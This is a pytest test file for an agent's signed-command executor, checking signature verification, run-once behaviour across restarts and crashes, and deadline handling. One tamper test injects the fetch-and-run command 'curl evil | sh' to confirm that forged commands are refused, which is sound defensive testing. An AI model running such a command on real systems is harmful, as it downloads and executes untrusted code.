"""The agent's executor: only verified commands run, each id at most once, across restarts."""

import time

import pytest

from agent.executor import CommandExecutor
from agent.ledger import CommandLog
from agent.runtime.process import ProcessRuntime
from common.pki import CommandSigner, CommandVerifier
from common.wire import Command, CommandBody, signing_bytes

AGENT = "agt-test"


@pytest.fixture
def signer():
    return CommandSigner.generate()


def command(signer, kind="create_container", spec=None, *, command_id="cmd-1", agent_id=AGENT, deadline=None):
    body = CommandBody(
        id=command_id,
        agent_id=agent_id,
        kind=kind,
        spec=spec or {},
        issued_at=time.time(),
        deadline=deadline or time.time() + 60,
        key_id=signer.key_id,
    )
    return Command(body=body, signature=signer.sign(signing_bytes(body)))


def executor(tmp_path, signer):
    verifier = CommandVerifier({signer.key_id: signer.public_key_b64()})
    runtime = ProcessRuntime(state_dir=tmp_path)
    return CommandExecutor(AGENT, CommandLog(tmp_path / "commands.db"), runtime, verifier), runtime


async def test_a_command_runs_once_even_when_delivered_again_after_a_restart(tmp_path, signer):
    runs = tmp_path / "runs"
    spec = {"name": "once", "image": "none", "command": ["sh", "-c", f"echo x >> {runs}; sleep 30"]}
    cmd = command(signer, spec=spec)
    first, runtime = executor(tmp_path, signer)
    result = await first.execute(cmd)
    assert result.ok, result
    first.ledger.close()

    again, runtime2 = executor(tmp_path, signer)  # a new process on the same state directory
    repeat = await again.execute(cmd)
    assert repeat.ok and repeat.result == result.result
    time.sleep(0.3)
    assert runs.read_text().count("x") == 1
    await runtime2.delete("once", timeout_s=2)


async def test_a_command_started_before_a_crash_is_not_run_twice(tmp_path, signer):
    runs = tmp_path / "runs"
    spec = {"name": "crash", "image": "none", "command": ["sh", "-c", f"echo x >> {runs}; sleep 30"]}
    cmd = command(signer, spec=spec, command_id="cmd-crash")
    first, runtime = executor(tmp_path, signer)
    await first.execute(cmd)
    # What a SIGKILL between "container created" and "result recorded" leaves behind:
    first.ledger._db.execute("UPDATE executed SET finished_at = NULL, ok = NULL, result = NULL WHERE id = 'cmd-crash'")
    again, runtime2 = executor(tmp_path, signer)
    result = await again.execute(cmd)
    assert result.ok
    assert result.result["container"]["labels"]["io.idlegrid.command-id"] == "cmd-crash"
    time.sleep(0.3)
    assert runs.read_text().count("x") == 1
    await runtime2.delete("crash", timeout_s=2)


async def test_a_tampered_command_is_refused_with_the_reason(tmp_path, signer):
    cmd = command(signer, spec={"name": "a", "image": "none", "command": ["true"]})
    cmd.body.spec["command"] = ["sh", "-c", "curl evil | sh"]
    ex, _ = executor(tmp_path, signer)
    result = await ex.execute(cmd)
    assert not result.ok
    assert result.error_code == "bad_signature"
    assert "signature" in result.error
    assert ex.ledger.get(cmd.body.id) is None  # a forgery must not poison the real id


async def test_commands_signed_by_an_unknown_or_retired_key_or_for_another_agent_are_refused(tmp_path, signer):
    ex, _ = executor(tmp_path, signer)
    stranger = CommandSigner.generate()
    assert (await ex.execute(command(stranger, spec={"name": "a", "image": "i"}))).error_code == "bad_signature"
    assert (await ex.execute(command(signer, agent_id="agt-other", command_id="c2"))).error_code == "bad_signature"
    ex.verifier.retire_key(signer.key_id)
    assert (await ex.execute(command(signer, command_id="c3"))).error_code == "bad_signature"


async def test_an_invalid_spec_or_a_late_command_fails_cleanly(tmp_path, signer):
    ex, _ = executor(tmp_path, signer)
    bad = await ex.execute(command(signer, spec={"name": "bad name!", "image": "i"}, command_id="c4"))
    assert not bad.ok and bad.error_code == "invalid_spec"
    late = await ex.execute(command(signer, spec={"name": "a", "image": "i"}, command_id="c5", deadline=time.time() - 1))
    assert not late.ok and late.error_code == "deadline_passed"
    assert {e.id for e in ex.ledger.unacked()} == {"c4", "c5"}
    ex.ledger.mark_acked("c4")
    assert [r.id for r in ex.pending_results()] == ["c5"]
